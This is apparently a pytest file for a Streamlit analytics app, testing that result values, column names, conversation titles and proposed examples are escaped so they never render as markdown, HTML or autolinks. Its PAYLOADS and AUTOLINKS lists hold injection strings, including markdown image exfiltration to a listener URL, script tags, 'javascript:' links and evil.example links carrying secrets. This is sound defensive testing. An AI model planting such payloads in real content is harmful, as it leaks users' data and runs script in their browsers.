"""Data never draws markdown (issue 18, item 5): links, images, autolinks, HTML, Streamlit
directives, LaTeX, headings, tables, emphasis and escape tricks in a value are shown as
the characters they are, in every place Streamlit reads text as markdown.

`escape_markdown` is checked on a class of payloads; then the pages in AppTest (a result
whose values and column names are payloads: sentence, KPI label, chart; a conversation
named by one; examples proposed with one) assert the markdown bodies Streamlit received;
the Plotly figure's texts are checked for raw HTML. The browser side (no <img>/<a>, no
request to a listener) is tests/e2e/test_markdown_leaks.py.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from auth.services import AuthServices
from backend.charts import ChartSpec, build_figure
from backend.charts.names import humanise
from backend.conversations import ConversationStore
from backend.feedback import FeedbackStore
from backend.i18n import Message, Translator
from tests.support.apptest import open_page, page_services
from ui.components.markdown import WORD_JOINER, escape_markdown, md_message, md_t

LEAK = "http://127.0.0.1:9/leak"
PAYLOADS = [
    f"![x]({LEAK}?names=a,b,c)",
    f"![x][r]\n\n[r]: {LEAK}",
    f"[click]({LEAK})",
    f'[click]({LEAK} "title")',
    f"<{LEAK}>",
    LEAK,
    "www.example.com/leak",
    f'<img src="{LEAK}">',
    f'<a href="{LEAK}">x</a>',
    "<b>bold</b><br><script>alert(1)</script>",
    ":red[red text] :blue-background[x] :rainbow[x]",
    ":material/home: :smile: :+1:",
    "$x^2$ and $$\\int_0^1 x dx$$",
    "\\(x\\) \\[y\\]",
    "# Heading",
    "Title\n=====",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "***bold italic*** __u__ ~~s~~ `code`",
    "> quote\n- item\n1. one",
    "\\](x)",
    "\\\\![x](http://a)",
    "[x](javascript:alert(1))",
    "［x］（http://127.0.0.1:9/fullwidth）",  # full-width look-alikes: text anyway
    "&lt;img src=x&gt; &#60;b&#62;",
    "    indented code",
    "line one  \nline two",
]


def _unescaped_punctuation(body: str) -> list[str]:
    """ASCII punctuation in `body` not preceded by its escaping backslash."""
    found, escaped = [], False
    for char in body:
        if escaped:
            escaped = False
        elif char == "\\":
            escaped = True
        elif re.match(r"[!-/:-@\[-`{-~]", char):
            found.append(char)
    return found


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_escaped_text_has_no_markdown_left(payload: str) -> None:
    body = escape_markdown(payload)
    assert _unescaped_punctuation(body) == []
    assert "\n" not in body and "\r" not in body  # never a block of its own
    assert re.search(r":(?!\u2060)", body) is None  # no shortcode can form
    # Unescaped, it reads as the value (line breaks become spaces).
    shown = re.sub(r"\\(.)", r"\1", body).replace(WORD_JOINER, "")
    assert shown == re.sub(r"[\r\n\t]+", " ", payload)


@pytest.mark.parametrize("text", ["Revenue", "Total 12,5 %", "Jan 2024", "café", ""])
def test_plain_text_reads_the_same(text: str) -> None:
    shown = re.sub(r"\\(.)", r"\1", escape_markdown(text)).replace(WORD_JOINER, "")
    assert shown == text


def test_catalogue_markdown_is_kept_and_values_escaped() -> None:
    tr = Translator("en")
    assert md_t(tr, "admin.users.status.now", status="*x*") == "Status: **\\*x\\***"
    nested = Message.of("engine.feedback.sql_fails", reason=Message.of("x.unknown"))
    assert md_message(nested, "en") is not None
    assert md_message("[a](b)", "en") == "\\[a\\]\\(b\\)"
    assert md_message(None, "en") is None
    count = md_t(tr, "examples.pending", count=3)
    assert count == "Waiting for review (3)"


# -- GFM autolink literals: found in the text after escapes are read ---------------------
# remark-gfm (mdast-util-gfm-autolink-literal) links `www.…`, `http(s)://…` and e-mail
# addresses by searching each parsed text node, where `\.` and `\@` are plain `.` and `@`
# again: escaping punctuation alone leaves `www\.evil\.com` a link. These are the
# installed Streamlit bundle's own patterns (checked below), in Python's syntax; the
# e-mail one without its look-behind, so stricter.
_BUNDLE_PATTERNS = (
    r"/(https?:\/\/|www(?=\.))([-.\w]+)([^ \t\r\n]*)/gi",
    r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)/gu",
)
_AUTOLINK_LITERALS = (
    re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE | re.ASCII),
    re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)", re.ASCII),
)
AUTOLINKS = [
    "www.evil.example",
    "WWW.evil.example/x?d=secret",
    "Www.Evil.Example",
    "see www.evil.example/p",
    "(www.evil.example)",
    "www.evil.example@x",
    "ana@evil.example",
    "x ana.b+c@evil.co.example",
    "mailto:ana@evil.example",
    "xmpp:ana@evil.example/home",
    "https://evil.example",
    "http://evil.example/leak?names=a,b",
    "HTTPS://EVIL.EXAMPLE",
    "a\nwww.evil.example",
]


def _markdown_bundle() -> str:
    import streamlit

    found = sorted(
        (Path(streamlit.__file__).parent / "static" / "static" / "js").glob(
            "StreamlitMarkdown.*.js"
        )
    )
    assert found, "Streamlit's markdown bundle moved: find its autolink patterns again"
    return found[0].read_text(encoding="utf-8")


def test_the_autolink_patterns_are_streamlits_own() -> None:
    bundle = _markdown_bundle()
    for pattern in _BUNDLE_PATTERNS:
        assert pattern in bundle, f"Streamlit's autolink pattern changed: {pattern}"


@pytest.mark.parametrize("payload", AUTOLINKS, ids=repr)
def test_no_autolink_literal_forms_in_the_text_streamlit_searches(payload: str) -> None:
    text_node = re.sub(r"\\(.)", r"\1", escape_markdown(payload))  # escapes read
    for pattern in _AUTOLINK_LITERALS:
        assert pattern.search(text_node) is None, (payload, text_node)
    assert text_node.replace(WORD_JOINER, "") == payload.replace("\n", " ")


# -- Plotly: data texts never carry HTML ------------------------------------------------


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from _strings(item)


_OUR_TAGS = re.compile(r"</?(br|extra)>")


@pytest.mark.parametrize(
    "kind", ["bar", "barh", "donut", "line_series", "scatter_series", "bar_series"]
)
def test_chart_texts_from_data_never_carry_html(kind: str) -> None:
    labels = [f'<a href="{LEAK}">{n}</a>' for n in range(3)] + ["<b>x</b>&<img src=y>"]
    name = '<a href="http://x/col">rev</a>'
    frame = pd.DataFrame({"label": labels, name: [4.0, 3.0, 2.0, 1.0], "k": [1, 2, 3, 4]})
    if kind == "line_series":
        frame = pd.DataFrame(
            {"month": ["2024-01", "2024-02"] * 2, "grp": labels[:2] * 2, name: [1, 2, 3, 4]}
        )
        spec = ChartSpec("line", x="month", y=name, color="grp", title=labels[0])
    elif kind == "scatter_series":
        frame = frame.assign(grp=labels[:2] * 2)
        spec = ChartSpec("scatter", x="k", y=name, color="grp")
    elif kind == "bar_series":
        frame = frame.assign(grp=labels[:2] * 2)
        spec = ChartSpec("bar", x="label", y=name, color="grp")
    else:
        spec = ChartSpec(kind, x="label", y=name, title=labels[3])  # type: ignore[arg-type]
    figure = build_figure(frame, spec)
    assert figure is not None
    texts = list(_strings(json.loads(figure.to_json())))
    leftovers = [t for t in texts if "<" in _OUR_TAGS.sub("", t)]
    assert leftovers == []
    assert any("&lt;a href=" in t for t in texts)  # the values are there, escaped


def test_chart_of_plain_data_is_unchanged() -> None:
    frame = pd.DataFrame({"region": ["north", "south"], "revenue": [2.0, 1.0]})
    figure = build_figure(frame, ChartSpec("bar", x="region", y="revenue"))
    assert figure is not None
    assert list(figure.data[0].x) == ["north", "south"]
    assert figure.layout.xaxis.title.text == "Region"


# -- the pages -------------------------------------------------------------------------


@pytest.fixture
def auth(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[AuthServices]:
    yield from page_services(
        monkeypatch,
        tmp_path,
        {"boss": ("admin", "Chief-unit-Passw0rd"), "ana": ("analyst", "Analyst-unit-Passw0rd")},
    )


def _sql_text(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def run_own_sql(at: AppTest, sql: str) -> AppTest:
    box = next(area for area in at.text_area if area.placeholder.startswith("SELECT"))
    box.input(sql)
    return next(b for b in at.button if b.label == "Run SQL").click().run()


def bodies(at: AppTest) -> list[str]:
    """Every text Streamlit was given as markdown on the page (and its labels)."""
    found = [e.value for e in (*at.markdown, *at.caption, *at.title, *at.subheader)]
    found += [e.value for e in (*at.warning, *at.error, *at.success, *at.info)]
    found += [b.label for b in at.button] + [m.label for m in at.metric]
    return [str(text) for text in found]


def assert_escaped(at: AppTest, payload: str) -> None:
    texts = bodies(at)
    # A sentence may capitalise its start; Streamlit strips a body's outer blanks.
    escaped = escape_markdown(payload).strip().lower()
    assert any(escaped in text.lower() for text in texts), (payload, texts[:3])
    raw = re.sub(r"[\r\n\t]+", " ", payload).lower()
    if _unescaped_punctuation(raw):  # the raw form would be markdown: nowhere else
        rest = [text.lower().replace(escaped, "") for text in texts]
        assert not any(raw in text for text in rest), (payload, texts)


@pytest.mark.parametrize("pair", range(0, len(PAYLOADS), 2))
def test_result_values_reach_the_sentence_escaped(auth: AuthServices, pair: int) -> None:
    first, second = PAYLOADS[pair], PAYLOADS[min(pair + 1, len(PAYLOADS) - 1)]
    sql = (
        f"SELECT {_sql_text(first)} AS label, 5 AS n "
        f"UNION ALL SELECT {_sql_text(second)}, 3 "
        + " ".join(f"UNION ALL SELECT 'plain {n}', 1" for n in range(8))  # bars, not a donut
    )
    at = run_own_sql(open_page("chat", timeout=90), sql)
    assert not at.exception
    assert not at.warning, [w.value for w in at.warning]
    assert_escaped(at, first)
    assert_escaped(at, second)
    chart = at.get("plotly_chart")[0].proto.spec
    assert "&lt;" in chart or "<" not in first + second
    assert "<a href" not in chart and "<img" not in chart


@pytest.mark.parametrize("payload", [*PAYLOADS[:8], ":red[x]", "$x$"], ids=repr)
def test_a_column_name_reaches_the_kpi_label_escaped(auth: AuthServices, payload: str) -> None:
    alias = payload.replace('"', '""')
    at = run_own_sql(open_page("chat", timeout=90), f'SELECT 5 AS "{alias}"')
    assert not at.exception
    assert not at.warning, [w.value for w in at.warning]
    assert at.metric[0].label == escape_markdown(humanise(payload))


def test_an_error_quoting_a_value_is_escaped(auth: AuthServices) -> None:
    at = run_own_sql(open_page("chat", timeout=90), f'SELECT nope AS "![x]({LEAK})" FROM x')
    assert not at.exception
    (warning,) = at.warning
    assert f"]({LEAK})" not in warning.value


@pytest.mark.parametrize("payload", PAYLOADS[:6], ids=repr)
def test_a_conversation_title_is_escaped_in_the_sidebar_and_heading(
    auth: AuthServices, payload: str
) -> None:
    at = open_page("chat", timeout=90)
    store = ConversationStore(auth.engine)
    conversation = store.create("boss")
    store.rename("boss", conversation.id, payload)
    at = open_page("chat", timeout=90)
    stored = store.get("boss", conversation.id).title
    labels = [b.label for b in at.button if b.key == f"chat_open_{conversation.id}"]
    assert labels == [escape_markdown(stored)]
    at.button(key=f"chat_open_{conversation.id}").click().run()
    assert at.title[0].value == escape_markdown(stored)


class NoIndex:
    def index_examples(self, database: str, examples: Any, *, replace: bool = False) -> None:
        raise AssertionError("not indexed here")

    def remove_example(self, database: str, example: Any) -> None:
        raise AssertionError("not indexed here")


def test_the_examples_page_shows_planted_questions_as_text(auth: AuthServices) -> None:
    open_page("chat", timeout=90)  # creates the app tables
    feedback = FeedbackStore(auth.engine, index=NoIndex(), database="demo")
    planted = [feedback.propose("ana", p, "SELECT 1 AS one") for p in PAYLOADS[:6]]
    feedback.propose("boss", "Mine?", "SELECT 2 AS two")

    admin = open_page("examples", timeout=90)
    assert not admin.exception
    questions = [box.value for box in admin.text_input if box.key and "ex_q_" in box.key]
    assert questions[: len(planted)] == [p.question for p in planted]  # edited as plain text
    own = admin.button(key=f"ex_approve_{planted[-1].id + 1}")
    assert own.disabled  # nobody approves their own proposal
    assert not admin.button(key=f"ex_approve_{planted[0].id}").disabled

    analyst = open_page("examples", "ana", "analyst", timeout=90)
    assert not analyst.exception
    assert [b for b in analyst.button if b.key and b.key.startswith("ex_")] == []
    shown = [m.value for m in analyst.markdown]
    for proposal in planted:
        assert f"**{escape_markdown(proposal.question)}**" in shown
    assert not any("Mine?" in text for text in bodies(analyst))  # another's proposal
